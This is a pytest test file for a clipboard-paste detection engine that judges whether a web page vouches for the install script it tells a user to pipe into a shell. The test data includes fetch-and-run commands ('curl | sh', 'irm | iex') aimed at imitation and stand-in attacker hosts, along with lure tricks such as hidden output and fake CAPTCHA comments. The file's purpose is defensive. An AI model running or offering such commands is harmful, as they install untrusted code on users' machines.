"""Provenance: a page vouches for the script it tells you to run only when both have one owner."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.detection import Context, Engine, Level, PasteTarget
from app.detection.engine import default_trust_path
from app.detection.indicators import parse_url
from app.detection.provenance import (
    abbreviates,
    comment_thread,
    forge_owner,
    named_storage,
    on_local_network,
    own_short_link,
    page_about_software,
    page_bars_vouching,
    registrable_domain,
    same_project,
    same_tenant_site,
)
from app.detection.trust import TrustList

TERMINAL = PasteTarget.TERMINAL


def vouch(page: str, url: str, never: bool = False, shared: bool = False) -> str | None:
    parsed = parse_url(url)
    assert parsed is not None
    return same_project(page, parsed, never_trusted=never, shared=shared)


@pytest.mark.parametrize(
    ("host", "domain"),
    [
        ("get.vendor.dev", "vendor.dev"),
        ("docs.tools.example.co.uk", "example.co.uk"),
        ("acme.github.io", "acme.github.io"),  # a private suffix: each account is its own site
        ("x.pages.dev", "x.pages.dev"),
        ("sh.rustup.rs", "rustup.rs"),
        ("xn--80ak6aa92e.com", "аррӏе.com"),  # punycode is read as the letters it stands for
    ],
)
def test_registrable_domain_follows_the_public_suffix_list(host: str, domain: str) -> None:
    assert registrable_domain(host) == domain


@pytest.mark.parametrize("host", ["com", "co.uk", "localhost", "10.0.0.1", "[::1]", ""])
def test_suffixes_ips_and_single_labels_have_no_registrable_domain(host: str) -> None:
    assert registrable_domain(host) is None


@pytest.mark.parametrize(
    ("url", "owner", "repo"),
    [
        ("https://github.com/Acme-Tools/WidgetCtl", "acme-tools", "widgetctl"),
        ("https://raw.githubusercontent.com/acme-tools/widgetctl/main/install.sh", "acme-tools", "widgetctl"),
        ("https://github.com/acme-tools/widgetctl/releases/download/v1.2.0/install.sh", "acme-tools", "widgetctl"),
        ("https://gist.githubusercontent.com/acme-tools/0123abcd/raw/setup.sh", "acme-tools", ""),
        ("https://acme-tools.github.io/widgetctl/install.sh", "acme-tools", "widgetctl"),
        ("https://gitlab.com/acme-tools/widgetctl/-/raw/main/install.sh", "acme-tools", "widgetctl"),
        ("https://acme-tools.gitlab.io/widgetctl/install.sh", "acme-tools", "widgetctl"),
        ("https://github.com/orgs/acme-tools/repositories", "acme-tools", ""),
        ("https://git.sr.ht/~acme-tools/widgetctl/blob/main/install.sh", "acme-tools", "widgetctl"),
        ("https://sr.ht/~acme-tools/widgetctl/", "acme-tools", "widgetctl"),
        ("https://acme-tools.srht.site/install.sh", "acme-tools", "install.sh"),
        ("https://api.github.com/repos/Acme-Tools/widgetctl/releases/latest", "acme-tools", "widgetctl"),
    ],
)  # fmt: skip
def test_forge_owner_reads_account_and_repository(url: str, owner: str, repo: str) -> None:
    parsed = parse_url(url)
    assert parsed is not None
    found = forge_owner(parsed)
    assert found is not None and (found.owner, found.repo) == (owner, repo)


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/marketplace/actions/x",
        "https://github.com/",
        "https://vendor.dev/x",
        "https://sr.ht/projects",
        "https://git.sr.ht/",
        "https://api.github.com/users/acme-tools",
    ],
)
def test_forge_sections_and_other_sites_have_no_owner(url: str) -> None:
    parsed = parse_url(url)
    assert parsed is not None and forge_owner(parsed) is None


@pytest.mark.parametrize(
    ("page", "url", "never", "shared"),
    [
        ("https://github.com/acme-tools/widgetctl", "https://raw.githubusercontent.com/acme-tools/widgetctl/main/install.sh", False, True),
        ("https://github.com/acme-tools/widgetctl#readme", "https://github.com/acme-tools/widgetctl/releases/download/v2.0.1/install.sh", False, True),
        ("https://github.com/acme-tools/widgetctl/releases/tag/v2.0.1", "https://objects.githubusercontent.com/github-production-release-asset-2e65be/1234/abcd", False, True),
        ("https://github.com/acme-tools/widgetctl", "https://gist.githubusercontent.com/acme-tools/0123abcd/raw/setup.sh", True, False),
        ("https://github.com/acme-tools/widgetctl", "https://acme-tools.github.io/widgetctl/install.sh", True, False),
        ("https://gitlab.com/acme-tools/widgetctl", "https://gitlab.com/acme-tools/widgetctl/-/raw/main/install.sh", False, True),
        ("https://gitlab.com/acme-tools/widgetctl", "https://acme-tools.gitlab.io/widgetctl/install.sh", True, False),
        ("https://docs.widget-vendor.dev/install", "https://get.widget-vendor.dev", False, False),
        ("https://widget-vendor.dev/docs", "https://widget-vendor.dev/install.ps1", False, False),
        ("https://widgetctl.dev/docs", "https://raw.githubusercontent.com/widgetctl/widgetctl/main/install.sh", False, True),
        ("https://github.com/acme-tools/widgetctl", "https://widgetctl.dev/install.sh", False, False),
        # a company's page about a product whose own site serves the script
        ("https://acme-soft.com/docs/widgetctl/install", "https://widgetctl.dev/install.sh", False, False),
        ("https://www.acme-soft.com/products/widgetctl.html", "https://get.widgetctl.io", False, False),
        # one name under two suffixes
        ("https://docs.widgetctl.com/", "https://widgetctl.sh/install.sh", False, False),
        # a project's site named like its repository (not its account)
        ("https://widgetctl.dev/docs", "https://raw.githubusercontent.com/acme-tools/widgetctl/main/i.sh", False, True),
        ("https://ohmywidget.dev/", "https://github.com/jdoe/oh-my-widget/releases/download/v1/i.sh", False, True),
        # a README linking its own package repository's install script
        ("https://github.com/acme-tools/widgetctl", "https://packagecloud.io/install/repositories/acme-tools/widgetctl/script.deb.sh", False, False),
        ("https://gitlab.com/acme-tools/widgetctl#install", "https://dl.cloudsmith.io/public/acme-tools/widgetctl/setup.deb.sh", False, False),
        # a tutorial, a question or a help article whose address names the product
        ("https://acme-soft.com/docs/setup-widgetctl", "https://widgetctl.dev/install.sh", False, False),
        ("https://stackoverflow.com/questions/1/how-to-install-widgetctl-on-mac", "https://get.widgetctl.io", False, False),
        ("https://blog.example.org/2025/03/trying-out-oh-my-widget", "https://ohmywidget.dev/install.sh", False, False),
        ("https://widgetctl.zendesk.example/hc/en-us/articles/1-install", "https://widgetctl.io/install.sh", False, False),
        ("https://dev.to/jo/setting-up-widgetctl-3k2j", "https://raw.githubusercontent.com/acme-tools/widgetctl/main/install.sh", False, True),
        # sourcehut: the same ~account
        ("https://sr.ht/~acme-tools/widgetctl/", "https://git.sr.ht/~acme-tools/widgetctl/blob/main/install.sh", False, False),
        # an account named after the whole domain (k3d.io and github.com/k3d-io)
        ("https://widgetctl.io/stable/", "https://raw.githubusercontent.com/widgetctl-io/widgetctl/main/install.sh", False, True),
        # a company's affix around its product's name (goteleport.com and teleport.dev)
        ("https://gowidgetctl.com/docs/", "https://cdn.widgetctl.dev/install.sh", False, False),
        ("https://widgetctl.dev/docs/", "https://get.widgetctlhq.com/install.sh", False, False),
        # the repository of a project's installer, and an account with the company's affix
        ("https://widgetctl.dev/download/", "https://raw.githubusercontent.com/jdoe/WidgetctlInstaller/main/i.ps1", False, True),
        ("https://widgetctl.dev/download/", "https://github.com/jdoe/widgetctl-cli/releases/download/v1/i.sh", False, True),
        ("https://docs.widgetctl.dev/install", "https://raw.githubusercontent.com/widgetctl-dev/tools/main/i.sh", False, True),
        # an organisation's account: the project's name and who keeps the account
        ("https://docs.widgetctl.dev/install", "https://github.com/Widgetctl-Plugin-Developers/installScript/raw/master/install", False, True),
        ("https://widgetctl.dev/", "https://raw.githubusercontent.com/widgetctl-community/installer/main/i.sh", False, True),
        ("https://github.com/widgetctl-contrib/docs", "https://get.widgetctl.dev/install.sh", False, False),
        # a registry's page for a forge module, or for a package scoped by its account
        ("https://pkg.go.dev/github.com/acme-tools/widgetctl", "https://raw.githubusercontent.com/acme-tools/widgetctl/main/i.sh", False, True),
        ("https://www.npmjs.com/package/@acme-tools/cli", "https://raw.githubusercontent.com/acme-tools/cli/main/i.sh", False, True),
        # a question about the product a host of its author's domain is named after
        ("https://superuser.com/questions/1/debloat-windows-11", "https://debloat.raphi.example/", False, False),
        # a README of one part of the project (its CLI, its agent) linking the project's site
        ("https://github.com/acme/widgetctl-cli", "https://widgetctl.sh/install.sh", False, False),
        ("https://github.com/tuxedo/tuxedo-ci-agent#install", "https://install.tuxedo-ci.com", False, False),
    ],
)  # fmt: skip
def test_a_page_vouches_for_its_own_projects_script(
    page: str, url: str, never: bool, shared: bool
) -> None:
    assert vouch(page, url, never, shared), (page, url)


@pytest.mark.parametrize(
    ("page", "url", "never", "shared"),
    [
        # another account on the same forge
        ("https://github.com/acme-tools/widgetctl", "https://raw.githubusercontent.com/someone-else/widgetctl/main/install.sh", False, True),
        ("https://gitlab.com/acme-tools/widgetctl", "https://gitlab.com/mallory/widgetctl/-/raw/main/install.sh", False, True),
        # the same forge host is not the same owner
        ("https://github.com/acme-tools/widgetctl", "https://github.com/mallory/tools/releases/download/v1/x.sh", False, True),
        # a user part, a longer host, plain HTTP, an IP address
        ("https://vendor.dev/docs", "https://vendor.dev@evil.test/install.sh", False, False),
        ("https://github.com/acme/x", "https://raw.githubusercontent.com.evil.test/acme/x/main/i.sh", False, False),
        ("https://vendor.dev/docs", "http://vendor.dev/install.sh", False, False),
        ("http://vendor.dev/docs", "https://vendor.dev/install.sh", False, False),
        ("https://10.0.0.5/docs", "https://10.0.0.5/install.sh", False, False),
        # multi-tenant hosts never vouch for each other, nor for themselves
        ("https://alice.pages.dev/", "https://alice.pages.dev/install.sh", True, False),
        ("https://alice.github.io/", "https://bob.github.io/install.sh", True, False),
        ("https://pastebin.com/u/alice", "https://pastebin.com/raw/abcd", True, False),
        # different sites
        ("https://vendor.dev/docs", "https://vendor-cdn.dev/install.sh", False, False),
        ("https://blog.example.org/how-to", "https://get.vendor.dev", False, False),
        # in an issue or discussion anyone writes: a name there is not the project's word
        ("https://github.com/acme-tools/widgetctl/issues/42", "https://widgetctl.top/fix.sh", False, False),
        ("https://github.com/acme-tools/widgetctl/discussions/7", "https://objects.githubusercontent.com/x/1", False, True),
        # punycode and look-alike letters never vouch
        ("https://xn--vndor-3ve.dev/docs", "https://xn--vndor-3ve.dev/install.sh", False, False),
        # a page naming a product vouches for that product's site, not for a longer name
        ("https://acme-soft.com/docs/widgetctl/install", "https://widgetctl-mirror.top/i.sh", False, False),
        ("https://acme-soft.com/docs/setup-widgetctlpro", "https://widgetctl.dev/install.sh", False, False),
        ("https://acme-soft.com/docs/setup-widgetctl", "https://widgetctl-install.top/i.sh", False, False),
        ("https://acme-soft.com/docs/setup-widgetctl", "https://get-widgetctl.top/i.sh", False, False),
        # another account's package repository, or one linked from an issue
        ("https://github.com/acme-tools/widgetctl", "https://packagecloud.io/install/repositories/mallory/widgetctl/script.deb.sh", False, False),
        ("https://github.com/acme-tools/widgetctl/issues/9", "https://packagecloud.io/install/repositories/acme-tools/widgetctl/script.deb.sh", False, False),
        ("https://github.com/acme-tools/widgetctl", "https://packagecloud.io/acme-tools/widgetctl/script.deb.sh", False, False),
        # ...nor for another repository, a tenancy, a check page or a short or generic name
        ("https://dev.to/jo/setting-up-widgetctl-3k2j", "https://raw.githubusercontent.com/mallory/widgetctl-helper/main/i.sh", False, True),
        ("https://dev.to/jo/setting-up-widgetctl-3k2j", "https://widgetctl.pages.dev/i.sh", True, False),
        ("https://captcha-check.example/widgetctl", "https://widgetctl.dev/install.sh", False, False),
        ("https://blog.example.org/how-to-install-cli", "https://cli.top/x.sh", False, False),
        ("https://blog.example.org/how-to-install-fd", "https://fd.dev/x.sh", False, False),
        # words that name no one, on either side
        ("https://example.org/install/", "https://install.top/x.sh", False, False),
        ("https://verify.example.top/captcha", "https://captcha.top/x.sh", False, False),
        ("https://www.install.org/", "https://install.net/x.sh", False, False),
        # a site named like a repository vouches for that repository only
        ("https://widgetctl.dev/docs", "https://raw.githubusercontent.com/mallory/widgetctl-fork/main/i.sh", False, True),
        ("https://tools.dev/docs", "https://raw.githubusercontent.com/mallory/tools/main/i.sh", False, True),
        # a named path on a forge or a tenancy names no owner
        ("https://blog.example.org/widgetctl/", "https://widgetctl.pages.dev/i.sh", True, False),
        # sourcehut: another ~account, or the site's own pages
        ("https://git.sr.ht/~acme-tools/widgetctl", "https://git.sr.ht/~mallory/tools/blob/main/i.sh", False, False),
        ("https://sr.ht/projects", "https://git.sr.ht/~mallory/tools/blob/main/i.sh", False, False),
        # an account named after another domain, or after a part of it
        ("https://widgetctl.io/", "https://raw.githubusercontent.com/widgetctl-com/x/main/i.sh", False, True),
        ("https://wi.io/", "https://raw.githubusercontent.com/wi-io/x/main/i.sh", False, True),
        # an affix that is no company's, or a name too short or generic to carry one
        ("https://gowidgetctl.com/docs/", "https://cdn.widgetctlx.dev/install.sh", False, False),
        ("https://evilwidgetctl.com/docs/", "https://cdn.widgetctl.dev/install.sh", False, False),
        ("https://gocli.com/docs/", "https://cdn.cli.dev/install.sh", False, False),
        ("https://godocs.com/", "https://get.docs.dev/install.sh", False, False),
        # another part or another name than the installer's repository, or the affix elsewhere
        ("https://widgetctl.dev/download/", "https://raw.githubusercontent.com/jdoe/widgetctl-helper/main/i.ps1", False, True),
        ("https://widgetctl.dev/download/", "https://raw.githubusercontent.com/jdoe/widgetctlinstallerfix/main/i.ps1", False, True),
        ("https://docs.widgetctl.dev/install", "https://raw.githubusercontent.com/widgetctlx-dev/tools/main/i.sh", False, True),
        ("https://docs.widgetctl.dev/install", "https://raw.githubusercontent.com/evil-widgetctl/tools/main/i.sh", False, True),
        ("https://cli.dev/docs/", "https://raw.githubusercontent.com/jdoe/cliinstaller/main/i.sh", False, True),
        ("https://downloads.widgetctl.dev/install", "https://raw.githubusercontent.com/mallory/install/main/i.sh", False, True),
        ("https://downloads.widgetctl.dev/install", "https://raw.githubusercontent.com/mallory/scripts/main/i.sh", False, True),
        # an account with a lure's word, or from a page about something else or a forum
        ("https://docs.widgetctl.dev/install", "https://raw.githubusercontent.com/widgetctl-support/installer/main/i.sh", False, True),
        ("https://docs.widgetctl.dev/install", "https://raw.githubusercontent.com/widgetctl-security-update/x/main/i.sh", False, True),
        ("https://bakehouse.example/menu/seasonal-specials", "https://raw.githubusercontent.com/bakehouse-plugins/x/main/i.sh", False, True),
        ("https://forum.widgetctl.dev/t/help/1", "https://raw.githubusercontent.com/widgetctl-plugins/x/main/i.sh", False, True),
        # a registry's page for one module says nothing of another account's copy
        ("https://pkg.go.dev/github.com/acme-tools/widgetctl", "https://raw.githubusercontent.com/mallory/widgetctl/main/i.sh", False, True),
        # a host label that is a topic or a download place, not a product
        ("https://superuser.com/questions/1/fix-windows-update", "https://windows.evil.example/", False, False),
        ("https://superuser.com/questions/1/get-the-installer", "https://get.evil.example/", False, False),
        ("https://recipes.example/debloat-your-diet", "https://debloat.raphi.example/", False, False),
        # ...but not from an issue, and not a name that is no word of the repository's own
        ("https://github.com/acme/widgetctl-cli/issues/3", "https://widgetctl.sh/install.sh", False, False),
        ("https://github.com/acme/widgetctl-cli", "https://widget.sh/install.sh", False, False),
        ("https://github.com/acme/install-scripts", "https://install.top/x.sh", False, False),
    ],
)  # fmt: skip
def test_nothing_else_vouches(page: str, url: str, never: bool, shared: bool) -> None:
    assert vouch(page, url, never, shared) is None, (page, url)


@pytest.mark.parametrize(
    ("page", "url", "vouched"),
    [
        # the organisation's own tenant at a vendor, from its intranet, wiki or knowledge base
        ("https://intranet.globex.example/it/fleet", "https://globex.cloud.fleetdm.example/api/latest/fleet/download_installer/pkg", True),
        ("https://kb.northwind.example/mac/enrol", "https://northwind.jamfcloud.example/enroll/agent.pkg", True),
        ("https://wiki.initech.example/display/IT/Agent", "https://eu.initech.agents.vendor-saas.example/install.sh", True),
        # a public page (a blog, a shop) beside a host named for its site is no tenant's
        ("https://blog.northwind.example/how-to-install-docker", "https://northwind.files-cdn.example/get.sh", False),
        ("https://www.northwind.example/recipes/soup", "https://northwind.files-cdn.example/a.sh", False),
        # another name, a name in the path, a name run on, a host where anyone publishes
        ("https://intranet.globex.example/it/fleet", "https://globexx.cloud.fleetdm.example/a.sh", False),
        ("https://intranet.globex.example/it/fleet", "https://fleet.cdn.example/globex/a.sh", False),
        ("https://intranet.globex.example/it/fleet", "https://globex-it.cdn.example/a.sh", False),
        ("https://intranet.globex.example/it/fleet", "https://globex.ngrok.app/a.sh", False),
        # a name of three letters is any name's
        ("https://intranet.abc.example/it", "https://abc.cdn.example/a.sh", False),
    ],
)  # fmt: skip
def test_an_organisations_staff_page_vouches_for_its_own_tenant_at_a_vendor(
    page: str, url: str, vouched: bool
) -> None:
    never = url.startswith("https://globex.ngrok.app")
    assert bool(vouch(page, url, never=never)) is vouched, (page, url)


@pytest.mark.parametrize(
    ("page", "thread"),
    [
        ("https://github.com/o/r/issues/12", True),
        ("https://github.com/o/r/pull/7#issuecomment-1", True),
        ("https://github.com/o/r/discussions/9", True),
        ("https://github.com/o/r/commits/main", True),
        ("https://gitlab.com/g/p/-/issues/3", True),
        ("https://gitlab.com/g/p/-/merge_requests/3", True),
        ("https://bitbucket.org/o/r/pull-requests/4", True),
        ("https://gitea.com/o/r/pulls/2", True),
        ("https://codeberg.org/o/r/commit/abc", True),
        ("https://github.com/o/r", False),
        ("https://github.com/o/r/releases", False),
        ("https://github.com/issues", False),  # the site's own section, no repository
        ("https://github.com/o", False),
        ("https://docs.example.test/issues/1/2", False),  # not a forge
        ("", False),
        (None, False),
        ("not a url", False),
    ],
)
def test_comment_threads_are_where_anyone_writes(page: str | None, thread: bool) -> None:
    assert comment_thread(page) is thread


def test_no_page_means_no_vouching() -> None:
    assert vouch("", "https://get.vendor.dev") is None
    assert vouch("Slack", "https://get.vendor.dev") is None  # an app's name, not a page


@pytest.fixture(scope="module")
def trust() -> TrustList:
    return TrustList.load(default_trust_path())


@pytest.mark.parametrize(
    "host",
    [
        "brew.sh.install-now.test",  # the vendor's host in front of someone else's domain
        "raw.githubusercontent.com.evil.test",
        "rustup-rs.top",  # the vendor's name inside another domain
        "homebrew-install.site",
        "get-docker.xyz",
        "rustupp.rs",  # one letter off
        "dockr.com",
        "olama.com",  # a letter dropped inside the name
        "ollamma.com",
        "astra1.sh",
        "sh.xn--rustp-hze.rs",  # punycode for look-alike letters
        "ѕh.rustup.rs",  # a Cyrillic letter
    ],
)
def test_hosts_that_imitate_a_vendor_are_named(trust: TrustList, host: str) -> None:
    parsed = parse_url(f"https://{host}/install.sh")
    assert parsed is not None and trust.imitation_of(parsed), host


@pytest.mark.parametrize(
    "host",
    [
        "sh.rustup.rs",
        "get.docker.com",
        "download.docker.com",
        "microsoft.github.io",  # the vendor's own account on a forge
        "fonts.googleapis.com",
        "grafana.mycorp.example",  # a vendor's name as someone's own subdomain
        "widgetctl.dev",
        "bref.sh",
        "raw.githubusercontent.com",
        "llama.com",  # another word, not ollama.com with a letter dropped
        "www.llama.com",
    ],
)
def test_ordinary_hosts_imitate_nobody(trust: TrustList, host: str) -> None:
    parsed = parse_url(f"https://{host}/install.sh")
    assert parsed is not None and trust.imitation_of(parsed) is None, host


@pytest.mark.parametrize(
    "host",
    [
        "docs.temporal.io",  # temporal.download's own documentation
        "temporal.io",
        "grafana.net",
        "tailscale.io",
        "openai.com",  # a name known only as a forge account holds no domain of ours
        "supabase.com",
    ],
)
def test_a_vendors_own_name_under_another_suffix_imitates_nobody(
    trust: TrustList, host: str
) -> None:
    parsed = parse_url(f"https://{host}/docs/install")
    assert parsed is not None and trust.imitation_of(parsed) is None, host


# -- end to end: the engine with a page and a target -----------------------------------------


GH_PAGE = "https://github.com/acme-tools/widgetctl"
GH_SCRIPT = "curl -fsSL https://raw.githubusercontent.com/acme-tools/widgetctl/main/install.sh | sh"


def test_own_project_installer_into_a_terminal_is_info(engine: Engine) -> None:
    bare = engine.analyze(GH_SCRIPT)
    assert bare.level is Level.SUSPICIOUS  # without context nobody vouches for it
    verdict = engine.analyze(GH_SCRIPT, Context(source=GH_PAGE, target=TERMINAL))
    assert verdict.level is Level.INFO, verdict.rule_ids
    assert verdict.rule_ids == ["PG-INFO-SAME-PROJECT"]
    assert "same project" in verdict.summary and "acme-tools" in verdict.summary


def test_vendor_docs_installer_into_a_terminal_is_info(engine: Engine) -> None:
    for page, text in [
        ("https://widget-vendor.dev/docs", "irm https://widget-vendor.dev/install.ps1 | iex"),
        ("https://docs.widget-vendor.dev/start", "curl -sSf https://get.widget-vendor.dev | sh"),
    ]:
        assert engine.analyze(text).level is Level.SUSPICIOUS
        verdict = engine.analyze(text, Context(source=page, target=TERMINAL))
        assert verdict.level is Level.INFO, (text, verdict.rule_ids)


def test_a_web_page_alone_is_no_evidence_against_a_terminal_paste(engine: Engine) -> None:
    text = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
    bare = engine.analyze(text, Context(target=TERMINAL))
    web = engine.analyze(text, Context(source="https://blog.example.org/post", target=TERMINAL))
    assert web.score == bare.score and web.level == bare.level is Level.SUSPICIOUS


@pytest.mark.parametrize(
    ("page", "text"),
    [
        # the page shares nothing with the script host
        ("https://blog.example.org/how-to", "curl -fsSL https://get.vendor.dev/i.sh | sh"),
        # the trusted-looking name is only the user part of the address
        ("https://vendor.dev/docs", "curl -sSf https://vendor.dev@evil.test/i.sh | sh"),
        ("https://sh.rustup.rs/", "curl -sSf https://sh.rustup.rs@evil.test | sh"),
        # a longer host that starts like the real one
        (GH_PAGE, "curl -fsSL https://raw.githubusercontent.com.evil.test/acme-tools/widgetctl/main/i.sh | sh"),
        # the project's URL only in a trailing comment
        ("https://vendor.dev/docs", "curl -fsSL https://evil.test/i.sh | sh # https://vendor.dev/install.sh"),
        # a chain that mixes the project's script with someone else's
        ("https://vendor.dev/docs", "curl -fsSL https://vendor.dev/i.sh | sh && curl -fsSL https://evil.test/x | sh"),
        # a host imitating a vendor, also when the page is on it
        ("https://rustup-rs.top/", "curl -sSf https://rustup-rs.top/install.sh | sh"),
        ("https://brew.sh.install-now.test/", "curl -fsSL https://brew.sh.install-now.test/install.sh | bash"),
        # the same owner, but a lure trait
        ("https://vendor.dev/verify", "curl -fsSL https://vendor.dev/i.sh | sh # I am not a robot - Cloudflare verification ID 4821"),
        # look-alike letters: the folded host is the vendor's, the text is not
        ("https://rustup.rs/", "curl -sSf https://ѕh.rustup.rs | sh"),
        ("https://vendor.dev/docs", "curl -fsSL https://get.vеndor.dev/install.sh | sh"),
        # a tenant of multi-tenant hosting vouches for no other tenant (its own site: below)
        ("https://alice.pages.dev/", "curl -fsSL https://bob.pages.dev/install.sh | sh"),
        ("https://alice.pages.dev/", "curl -fsSL https://alice.netlify.app/install.sh | sh"),
    ],
)  # fmt: skip
def test_borrowed_or_partial_provenance_clears_nothing(
    engine: Engine, page: str, text: str
) -> None:
    verdict = engine.analyze(text, Context(source=page, target=TERMINAL))
    assert verdict.level >= Level.SUSPICIOUS, (text, verdict.rule_ids)
    assert "PG-INFO-SAME-PROJECT" not in verdict.rule_ids


def test_imitating_hosts_are_malicious_even_without_context(engine: Engine) -> None:
    for text in (
        "curl -sSf https://rustup-rs.top/install.sh | sh",
        "curl -fsSL https://homebrew-install.site/install.sh | bash",
        "irm https://get-docker.xyz/install.ps1 | iex",
    ):
        verdict = engine.analyze(text)
        assert verdict.level is Level.MALICIOUS, (text, verdict.rule_ids)
        assert "PG-URL-IMITATES-VENDOR" in verdict.rule_ids


def test_the_same_installer_in_the_run_dialog_is_malicious(engine: Engine) -> None:
    for target in (PasteTarget.RUN_DIALOG, PasteTarget.EXPLORER_BAR):
        verdict = engine.analyze(GH_SCRIPT, Context(source=GH_PAGE, target=target))
        assert verdict.level is Level.MALICIOUS, verdict.rule_ids
        assert "PG-CONTEXT-RUN-BOX" in verdict.rule_ids


def test_official_installer_from_a_web_page_into_a_terminal_stays_info(engine: Engine) -> None:
    text = "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"
    verdict = engine.analyze(text, Context(source="https://rustup.rs/", target=TERMINAL))
    assert verdict.level is Level.INFO and "PG-INFO-KNOWN-INSTALLER" in verdict.rule_ids


def test_hostile_host_names_cost_nothing(engine: Engine) -> None:
    """Names longer than DNS allows are not decoded: a punycode label of 2,000 characters would
    take milliseconds each, and a text can hold many."""
    long_label = "xn--" + "a" * 2000 + "-" + "9" * 2000
    assert registrable_domain(long_label + ".com") is None
    urls = " ".join(f"https://{long_label}{i}.test/i.sh" for i in range(40))
    text = f"curl -fsSL {urls} | sh"
    verdict = engine.analyze(text, Context(source=f"https://{long_label}.test/", target=TERMINAL))
    assert verdict.level >= Level.SUSPICIOUS and verdict.complete


STRANGER_PAGE = "https://www.example-bakery.com/menu/"


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://cdn.pixel-relay.example/logo.png | bash",
        "irm https://cdn.pixel-relay.example/wp-content/uploads/u.ps1 | iex",
        "curl -fsSL https://cdn.pixel-relay.example/i.sh | bash >/dev/null 2>&1",
        "curl -fsSL https://cdn.pixel-relay.example/i.sh | sh; clear",
    ],
)
def test_a_lure_trait_from_a_strangers_page_into_a_terminal_is_blocked(
    engine: Engine, text: str
) -> None:
    verdict = engine.analyze(text, Context(source=STRANGER_PAGE, target=TERMINAL))
    assert verdict.level is Level.MALICIOUS, verdict.rule_ids
    # the same text from the script host's own page is a warning, not a block
    own = engine.analyze(
        text, Context(source="https://docs.pixel-relay.example/x", target=TERMINAL)
    )
    assert own.level >= Level.SUSPICIOUS


def test_without_a_trait_a_strangers_page_warns_and_an_official_installer_stays_quiet(
    engine: Engine,
) -> None:
    plain = "curl -fsSL https://cdn.pixel-relay.example/install.sh | bash"
    # a page that could be a developer's (a question, a forum thread): a warning
    for page in [
        "https://stackoverflow.com/questions/79011223/permission-denied-when-piping-to-sh",
        "https://forum.example.org/t/help-with-setup/4411",
    ]:
        verdict = engine.analyze(plain, Context(source=page, target=TERMINAL))
        assert verdict.level is Level.SUSPICIOUS, (page, verdict.rule_ids)
    # a page whose address is about something else: no developer reading is left, a block
    verdict = engine.analyze(plain, Context(source=STRANGER_PAGE, target=TERMINAL))
    assert verdict.level is Level.MALICIOUS, verdict.rule_ids
    assert "PG-PAGE-OFF-TOPIC" in verdict.rule_ids
    for page, text in [
        ("https://www.rust-lang.org/tools/install", "curl -sSf https://sh.rustup.rs | sh -s -- -y"),
        ("https://brew.sh/", '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'),
    ]:  # fmt: skip
        verdict = engine.analyze(text, Context(source=page, target=TERMINAL))
        assert verdict.level is Level.INFO, (text, verdict.rule_ids)


@pytest.mark.parametrize(
    "url",
    [
        "https://downloads.acme-soft.com/agent/Agent.msi",  # the page's own download host
        "https://github.com/acme-soft/agent/releases/download/v1/Agent.msi",  # its own releases
    ],
)
def test_an_installer_saved_to_temp_and_started_from_its_own_page_is_info(
    engine: Engine, url: str
) -> None:
    text = f"iwr {url} -OutFile $env:TEMP\\Agent.msi; msiexec /i $env:TEMP\\Agent.msi /qn"
    page = (
        "https://www.acme-soft.com/docs/agent"
        if "github" not in url
        else ("https://github.com/acme-soft/agent/releases")
    )
    assert engine.analyze(text).level is Level.MALICIOUS  # without context: unchanged
    verdict = engine.analyze(text, Context(source=page, target=TERMINAL))
    assert verdict.level is Level.INFO and "PG-INFO-SAME-PROJECT" in verdict.rule_ids
    for lure_page, lure_text, level in [
        (STRANGER_PAGE, text, Level.MALICIOUS),
        # plain HTTP from its own page: anyone on the path could swap it, a warning; but the
        # page and the host are one owner's, so it is no lure and never blocked
        (page, text.replace("https://", "http://"), Level.SUSPICIOUS),
        (page, text.replace(url.split("/")[2], "198.51.100.7"), Level.MALICIOUS),
    ]:
        verdict = engine.analyze(lure_text, Context(source=lure_page, target=TERMINAL))
        assert verdict.level is level, (lure_page, lure_text, verdict.rule_ids)


@pytest.mark.parametrize(
    ("page", "about"),
    [
        # developer sites, developer sections, software words in the address
        ("https://stackoverflow.com/questions/1/why-does-my-pipe-hang", True),
        ("https://docs.acme-soft.example/start", True),
        ("https://forum.selfhosters.example/t/8812", True),
        ("https://janedoe.example/2025/05/12/my-homelab-rebuild", True),
        ("https://www.example.org/how-to-install-widgetctl-on-ubuntu/", True),
        ("https://acme-soft.example/downloads/", True),
        # words, none of them about software
        ("https://www.lakeside-bakery.example/menu/autumn-specials", False),
        ("https://www.localpaper.example/sport/2026/11/30/derby-report", False),
        ("https://streamhub.example/watch/season-2-episode-7", False),
        ("https://chat-share.example/share/6731b2c4", False),
        # the bait of fake pages is not a developer's word
        ("https://browser-help.example/fix-error/update", False),
        # nothing to judge by: no path words, ids only, an IP, not a web page
        ("https://janedoe.example/", None),
        ("https://shop.example/p/12345", None),
        ("https://203.0.113.9/menu/autumn", None),
        ("Slack", None),
        # a video's or a post's address: ids and account names, the site's own layout words
        ("https://www.youtube.com/watch?v=Rk2wQ8pLx0c", None),
        ("https://x.com/someone/status/1799123456", None),
        ("https://www.reddit.com/r/cooking/comments/1h2kq9z/best_winter_soup/", False),
        ("https://www.reddit.com/r/selfhosted/comments/1h2kq9z/", True),
    ],
)  # fmt: skip
def test_what_a_page_address_says_of_its_subject(page: str, about: bool | None) -> None:
    assert page_about_software(page) is about


_page_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=300)
_pages = st.one_of(_page_text, _page_text.map(lambda t: "https://" + t))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(page=_pages, script=_pages)
def test_a_page_address_never_makes_provenance_raise(page: str, script: str) -> None:
    """The page address is the attacker's too: reading it never raises, whatever it holds."""
    trust = TrustList.load(default_trust_path())
    assert page_about_software(page) in (True, False, None)
    page_bars_vouching(page, trust.imitation_of, trust.borrowed_names)
    parsed = parse_url(script)
    if parsed is not None:
        same_project(page, parsed, never_trusted=False, shared=False, known=lambda n: False)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(page=_pages)
def test_any_page_address_gives_a_verdict_for_a_terminal_paste(engine: Engine, page: str) -> None:
    verdict = engine.analyze(
        "curl -fsSL https://cdn.pixel-relay.example/install.sh | bash",
        Context(source=page, target=TERMINAL),
    )
    assert verdict.level >= Level.INFO


